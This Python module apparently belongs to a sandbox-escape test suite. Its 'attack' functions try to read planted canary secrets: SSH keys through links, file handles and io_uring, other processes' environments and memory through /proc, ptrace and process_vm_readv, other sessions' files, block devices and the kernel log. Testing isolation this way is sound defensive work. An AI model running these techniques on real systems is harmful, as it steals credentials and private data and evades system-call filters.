"""Attacks that read what is not the kernel's: keys, files, other processes, other sessions."""

import contextlib
import ctypes
import glob
import os
import subprocess
from pathlib import Path

from attacks.cells.prelude import call, libc, struct, time
from attacks.score import returned
from attacks.stage import NotHere, Stage
from attacks.words import attack


@attack(
    "read",
    returned("environment"),
    no_control="the kernel's environment is made anew at every level",
)
def own_environment(c):
    """Key in the kernel's own environment"""
    return dict(os.environ)


@attack("read", returned("environment", "victim_environment"))
def environment_of_any_process(c):
    """Key in /proc/*/environ of any process, the sandbox's own pid 1 and launcher included"""
    loot = b""
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/task/*/environ"):
        with contextlib.suppress(OSError):
            loot += Path(path).read_bytes()
    return "".join(part for part in loot.decode(errors="replace").split("\0") if "CANARY" in part)


@attack(
    "read",
    returned("environment"),
    no_control="without a sandbox pid 1 is the machine's init, which holds no canary",
)
def environment_of_pid_1(c):
    """Key in the environment or memory of the sandbox's pid 1"""
    loot = ""
    for name in ("environ", "cmdline"):
        with contextlib.suppress(OSError):
            loot += Path(f"/proc/1/{name}").read_text(errors="replace")
    if loot == "":
        raise PermissionError(13, "/proc/1 told nothing")
    return loot


@attack("read", returned("ssh_key"))
def key_in_home(c):
    """~/.ssh key, by open()"""
    return Path(c.files["ssh_key"]).read_text()


@attack("read", returned("ssh_key"))
def key_in_home_by_shell(c):
    """~/.ssh key, by a child process"""
    return subprocess.run(
        ["/bin/sh", "-c", f"cat '{c.files['ssh_key']}'"], capture_output=True, check=True
    ).stdout


@attack("read", returned("ssh_key"))
def key_in_home_by_system_call(c):
    """~/.ssh key, by a raw system call"""
    descriptor = call("openat", -100, c.files["ssh_key"].encode(), os.O_RDONLY)
    return os.read(descriptor, 1000)


@attack("read", returned("ssh_key"))
def key_in_home_by_link(c):
    """~/.ssh key, by a symbolic link in the workspace"""
    with contextlib.suppress(FileNotFoundError):
        os.unlink("key-link")
    os.symlink(c.files["ssh_key"], "key-link")
    try:
        return Path("key-link").read_text()
    finally:
        os.unlink("key-link")


@attack("read", returned("ssh_key"))
def key_in_home_by_hard_link(c):
    """~/.ssh key, by a hard link into the workspace"""
    os.link(c.files["ssh_key"], "key-hard-link")
    try:
        return Path("key-hard-link").read_text()
    finally:
        os.unlink("key-hard-link")


@attack("read", returned("ssh_key", "shared_tmp", "victim_file"))
def key_by_the_root_of_a_process(c):
    """Host files by /proc/*/root and /proc/*/cwd"""
    for base in glob.glob("/proc/[0-9]*/root") + glob.glob("/proc/[0-9]*/cwd/../../../../../.."):
        with contextlib.suppress(OSError):
            return Path(base + c.files["ssh_key"]).read_text()
    raise PermissionError(13, "no process's root leads to the key")


@attack(
    "read", returned("ssh_key"), no_control="opening a handle needs CAP_DAC_READ_SEARCH on the host"
)
def key_by_file_handle(c):
    """~/.ssh key, by a file handle (the container escape of 2014)"""
    handle = ctypes.create_string_buffer(struct.pack("Ii", 120, 0) + bytes(120))
    mount = ctypes.c_int()
    call("name_to_handle_at", -100, c.files["ssh_key"].encode(), handle, ctypes.byref(mount), 0)
    top = os.open("/", os.O_RDONLY)
    descriptor = call("open_by_handle_at", top, handle, os.O_RDONLY)
    return os.read(descriptor, 1000)


@attack("read", returned("sibling"))
def other_runs_folder(c):
    """The trace of another run in the folder beside"""
    return Path("../other-run/trace.jsonl").read_text()


@attack("read", returned("shared_tmp"))
def file_in_tmp(c):
    """A file of another program in /tmp"""
    return Path(c.files["shared_tmp"]).read_text()


@attack("read", returned("shared_memory_file"))
def file_in_dev_shm(c):
    """POSIX shared memory of another program in /dev/shm"""
    return Path(c.files["shared_memory_file"]).read_text()


def _last_account(stage: Stage) -> dict[str, object]:
    stage.secret("account", Path("/etc/passwd").read_text().rstrip().splitlines()[-1])
    return {}


@attack("read", returned("account"), before=_last_account)
def account_list(c):
    """/etc/passwd of the host"""
    return Path("/etc/passwd").read_text()


def _machine_id(stage: Stage) -> dict[str, object]:
    files = ("/etc/machine-id", "/etc/hostname", "/etc/hosts")
    text = next((t for f in files if os.path.exists(f) and (t := Path(f).read_text().strip())), "")
    if not text:
        raise NotHere("this machine has none of the files")
    stage.secret("machine", text)
    return {}


@attack("read", returned("machine"), before=_machine_id)
def machine_identity(c):
    """Files in /etc that identify the host"""
    return "\n".join(
        Path(f).read_text() for f in ("/etc/machine-id", "/etc/hostname", "/etc/hosts")
        if os.path.exists(f)
    )  # fmt: skip


def _command_line(stage: Stage) -> dict[str, object]:
    assert stage.victim
    return {}


@attack("read", returned("victim_argv"), before=_command_line)
def command_lines(c):
    """Passwords in the command lines of foreign processes"""
    loot = b""
    for path in glob.glob("/proc/[0-9]*/cmdline"):
        with contextlib.suppress(OSError):
            loot += Path(path).read_bytes()
    return b" ".join(word for word in loot.split(b"\0") if b"CANARY" in word)


@attack("read", returned("victim_file"), before=_command_line)
def descriptors_of_a_process(c):
    """A deleted file that a foreign process has open, by /proc/*/fd"""
    return Path(f"/proc/{c.victim}/fd/{c.victim_descriptor}").read_text()


@attack("read", returned("victim_memory"), before=_command_line)
def memory_of_a_process(c):
    """Memory of a foreign process, by /proc/*/mem"""
    with open(f"/proc/{c.victim}/mem", "rb", buffering=0) as memory:
        memory.seek(c.victim_address)
        return memory.read(64)


@attack("read", returned("victim_memory"), before=_command_line)
def memory_by_process_vm_readv(c):
    """Memory of a foreign process, by process_vm_readv"""
    buffer = ctypes.create_string_buffer(64)
    local = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 64)
    remote = (ctypes.c_size_t * 2)(c.victim_address, 64)
    call("process_vm_readv", c.victim, local, 1, remote, 1, 0)
    return buffer.raw


@attack("read", returned("victim_memory"), before=_command_line)
def memory_by_ptrace(c):
    """Memory of a foreign process, by ptrace"""
    attach, peek, detach = 16, 2, 17
    call("ptrace", attach, c.victim, 0, 0)
    try:
        os.waitpid(c.victim, 0x40000000)  # __WALL
    except ChildProcessError:
        time.sleep(0.1)
    loot = b""
    for offset in range(0, 64, 8):
        word = ctypes.c_long()
        call("ptrace", peek, c.victim, c.victim_address + offset, ctypes.byref(word))
        loot += struct.pack("q", word.value)
    call("ptrace", detach, c.victim, 0, 0)
    return loot


@attack("read", returned("victim_file"), before=_command_line)
def descriptor_by_pidfd_getfd(c):
    """A descriptor of a foreign process, by pidfd_getfd"""
    descriptor = call("pidfd_getfd", os.pidfd_open(c.victim), c.victim_descriptor, 0)
    return os.pread(descriptor, 1000, 0)


@attack("read", returned("environment", "ssh_key", "shared_tmp", "sibling"))
def inherited_descriptors(c):
    """Whatever descriptors the kernel inherited from the host"""
    loot = b""
    for descriptor in os.listdir("/proc/self/fd"):
        target = ""
        with contextlib.suppress(OSError):
            target = os.readlink(f"/proc/self/fd/{descriptor}")
        if not target.startswith("/"):
            continue
        with contextlib.suppress(OSError):
            if os.path.isdir(f"/proc/self/fd/{descriptor}"):
                here = int(descriptor)
                for place in (c.files["ssh_key"], c.files["shared_tmp"]):
                    with contextlib.suppress(OSError):
                        up = os.open("../" * 12 + place.lstrip("/"), os.O_RDONLY, dir_fd=here)
                        loot += os.read(up, 1000)
            else:
                loot += os.pread(int(descriptor), 20_000, 0)
    return loot


def _neighbour(stage: Stage) -> dict[str, object]:
    if stage.neighbour is None:
        raise NotHere("no second session was started")
    return {"neighbour": str(stage.neighbour_directory)}


@attack("read", returned("neighbour_key"), before=_neighbour)
def other_sessions_key(c):
    """The connection file of another session, searched for everywhere"""
    loot = ""
    places = glob.glob("/tmp/ka-*/**/*.json", recursive=True)
    places += glob.glob("/tmp/*/k*.json") + glob.glob(c.neighbour + "/**/*.json", recursive=True)
    places += glob.glob("/run/**/k*.json", recursive=True)
    for path in places:
        with contextlib.suppress(OSError):
            loot += Path(path).read_text()[:3000]
    return loot[-55_000:]


@attack("read", returned("neighbour_file"), before=_neighbour)
def other_sessions_files(c):
    """The workspace of another session"""
    return Path("../neighbour/secret.txt").read_text()


@attack("read", returned("trace"))
def trace_of_the_run(c):
    """The trace of its own run, in its own folder"""
    return Path("trace.jsonl").read_text()


def _key_in_keyring(stage: Stage) -> dict[str, object]:
    """Plant a key in the user keyring of the kernel's uid."""
    from attacks.cells import prelude

    if os.getuid() == 0:
        raise NotHere("root's keyring is not the one of the kernel's user")
    secret, name = stage.secret("keyring").encode(), f"canary-{stage.token}".encode()
    key = prelude.call("add_key", b"user", name, secret, len(secret), -4)
    prelude.call("keyctl", 5, key, 0x3F3F0000, 0, 0)  # KEYCTL_SETPERM
    prelude.call("keyctl", 15, key, 300, 0, 0)  # KEYCTL_SET_TIMEOUT, seconds
    return {"key_name": name.decode()}


@attack("read", returned("keyring"), before=_key_in_keyring)
def kernel_keyring(c):
    """A key in the user's kernel keyring"""
    key = call("keyctl", 10, -4, b"user", c.key_name.encode(), 0)
    buffer = ctypes.create_string_buffer(100)
    call("keyctl", 11, key, buffer, 100, 0)
    return buffer.raw


def _shared_memory(stage: Stage) -> dict[str, object]:
    """Make a System V segment that everybody may read."""
    import secrets

    from attacks.cells import prelude

    number = secrets.randbelow(2**30) + 1
    identifier = prelude.call("shmget", number, 4096, 0o1000 | 0o666)
    prelude.libc.shmat.restype = ctypes.c_void_p
    address = prelude.libc.shmat(identifier, None, 0)
    secret = stage.secret("shared_memory").encode()
    ctypes.memmove(address, secret, len(secret))
    stage._ending.callback(prelude.libc.shmctl, identifier, 0, None)
    return {"segment": number}


@attack("read", returned("shared_memory"), before=_shared_memory)
def system_v_shared_memory(c):
    """A System V shared memory segment of another program"""
    identifier = call("shmget", c.segment, 0, 0)
    libc.shmat.restype = ctypes.c_void_p
    address = libc.shmat(identifier, None, 0o10000)
    if address in (None, ctypes.c_void_p(-1).value):
        raise OSError(ctypes.get_errno(), "shmat")
    return ctypes.string_at(address, 64)


def _message_queue(stage: Stage) -> dict[str, object]:
    import secrets

    from attacks.cells import prelude

    number = secrets.randbelow(2**30) + 1
    identifier = prelude.call("msgget", number, 0o1000 | 0o666)
    text = stage.secret("message_queue").encode()
    message = ctypes.create_string_buffer(struct.pack("q", 1) + text)
    if prelude.libc.msgsnd(identifier, message, len(text), 0o4000) != 0:
        raise NotHere("no System V message queues here")
    stage._ending.callback(prelude.libc.msgctl, identifier, 0, None)
    return {"queue": number}


@attack("read", returned("message_queue"), before=_message_queue)
def system_v_message_queue(c):
    """A System V message queue of another program"""
    identifier = call("msgget", c.queue, 0)
    buffer = ctypes.create_string_buffer(200)
    call("msgrcv", identifier, buffer, 150, 0, 0o4000)
    return buffer.raw


def _posix_queue(stage: Stage) -> dict[str, object]:
    from attacks.cells import prelude

    name = f"ka-{stage.token}".encode()
    attributes = (ctypes.c_long * 8)(0, 4, 200, 0, 0, 0, 0, 0)
    old = os.umask(0)
    try:
        queue = prelude.call("mq_open", name, os.O_CREAT | os.O_RDWR, 0o666, attributes)
    except OSError as error:
        raise NotHere(f"no POSIX message queues here: {error}") from None
    finally:
        os.umask(old)
    text = stage.secret("posix_queue").encode()
    prelude.libc.syscall(242, queue, text, len(text), 0, None)  # mq_timedsend
    return {"posix_queue": name.decode()}


@attack("read", returned("posix_queue"), before=_posix_queue)
def posix_message_queue(c):
    """A POSIX message queue of another program"""
    queue = call("mq_open", c.posix_queue.encode(), os.O_RDONLY | os.O_NONBLOCK, 0, None)
    buffer = ctypes.create_string_buffer(200)
    call("mq_timedreceive", queue, buffer, 200, None, None)
    return buffer.raw


@attack(
    "read",
    returned("kernel_log"),
    before=lambda stage: _kernel_log(stage),
    no_control="where dmesg_restrict is set, the kernel's log is root's",
)
def kernel_log(c):
    """The kernel's log (dmesg), by syslog and /dev/kmsg"""
    loot = b""
    with contextlib.suppress(OSError):
        descriptor = os.open("/dev/kmsg", os.O_RDONLY | os.O_NONBLOCK)
        for _ in range(20):
            loot += os.read(descriptor, 8192)
    buffer = ctypes.create_string_buffer(60_000)
    with contextlib.suppress(OSError):
        call("syslog", 3, buffer, 60_000)
    loot += buffer.value
    if not loot:
        raise PermissionError(1, "no kernel log")
    return loot


def _kernel_log(stage: Stage) -> dict[str, object]:
    stage.secret("kernel_log", "Linux version ")
    return {}


@attack(
    "read",
    returned("disk"),
    before=lambda stage: _disk(stage),
    no_control="devices belong to root",
)
def block_devices(c):
    """The disk itself: block devices, /dev/mem, /proc/kcore"""
    loot, refused = b"", []
    for path in [
        *glob.glob("/dev/[vsx]d[a-z]"),
        *glob.glob("/dev/nvme*"),
        "/dev/mem",
        "/proc/kcore",
    ]:
        try:
            descriptor = os.open(path, os.O_RDONLY)
            loot += os.read(descriptor, 65536).hex().encode()
        except OSError as error:
            refused.append(str(error))
    if not loot:
        raise PermissionError(13, "; ".join(refused)[:300] or "no such device here")
    return loot[:50_000]


def _disk(stage: Stage) -> dict[str, object]:
    devices = [d for d in glob.glob("/dev/[vsx]d[a-z]") if os.access(d, os.R_OK)]
    text = ""
    with contextlib.suppress(OSError, IndexError), open(devices[0], "rb") as disk:
        text = disk.read(1200)[1024:1150].hex()  # part of the ext4 superblock
    stage.secret("disk", text or None)
    return {}


@attack("read", returned("activity"), before=lambda stage: _activity(stage))
def process_list_timing(c):
    """Watching when a foreign process works, by its CPU time in /proc"""
    return Path(f"/proc/{c.victim}/stat").read_text() + Path(f"/proc/{c.victim}/status").read_text()


def _activity(stage: Stage) -> dict[str, object]:
    assert stage.victim
    stage.secret("activity", f"Pid:\t{stage.victim.pid}\nPPid:\t{os.getpid()}")
    return {}


@attack("read", returned("ssh_key"))
def key_by_io_uring(c):
    """~/.ssh key, by io_uring, which a system-call filter does not see"""
    import mmap

    parameters = ctypes.create_string_buffer(120)
    ring = call("io_uring_setup", 4, parameters)
    words = struct.unpack("30I", parameters.raw)
    sq_entries, cq_entries = words[0], words[1]
    sq_off, cq_off = words[10:20], words[20:30]
    sq = mmap.mmap(ring, sq_off[6] + sq_entries * 4, offset=0)
    cq = mmap.mmap(ring, cq_off[5] + cq_entries * 16, offset=0x8000000)
    entries = mmap.mmap(ring, sq_entries * 64, offset=0x10000000)
    path = ctypes.create_string_buffer(c.files["ssh_key"].encode())
    buffer = ctypes.create_string_buffer(200)

    def submit(opcode, descriptor, address, length, extra):
        tail = struct.unpack_from("I", sq, sq_off[1])[0]
        index = tail & (sq_entries - 1)
        entries[index * 64 : index * 64 + 64] = struct.pack(
            "BBHiQQII24x", opcode, 0, 0, descriptor, 0, address, length, extra
        ).ljust(64, b"\0")
        struct.pack_into("I", sq, sq_off[6] + index * 4, index)
        struct.pack_into("I", sq, sq_off[1], tail + 1)
        call("io_uring_enter", ring, 1, 1, 1, None, 0)
        head = struct.unpack_from("I", cq, cq_off[0])[0]
        at = cq_off[5] + (head & (cq_entries - 1)) * 16
        result = struct.unpack_from("Qi", cq, at)[1]
        struct.pack_into("I", cq, cq_off[0], head + 1)
        if result < 0:
            raise OSError(-result, "io_uring: " + os.strerror(-result))
        return result

    opened = submit(18, -100, ctypes.addressof(path), 0, os.O_RDONLY)
    submit(22, opened, ctypes.addressof(buffer), 199, 0)
    os.close(ring)
    return buffer.value


def _file_by_and_by(stage: Stage) -> dict[str, object]:
    """Make a file in the home, with a secret name, while the attack watches."""
    import threading

    path = stage.home / stage.secret("file_name")

    def make() -> None:
        path.touch()
        path.unlink()

    threading.Timer(2, make).start()
    return {}


@attack("read", returned("file_name"), before=_file_by_and_by)
def names_by_inotify(c):
    """Names of files in the home, by watching it (inotify)"""
    watching = libc.inotify_init1(0)
    folder = ctypes.c_char_p(c.home.encode())
    call("inotify_add_watch", watching, folder, ctypes.c_uint32(0x100))  # IN_CREATE
    try:
        return os.read(watching, 4096)
    finally:
        os.close(watching)
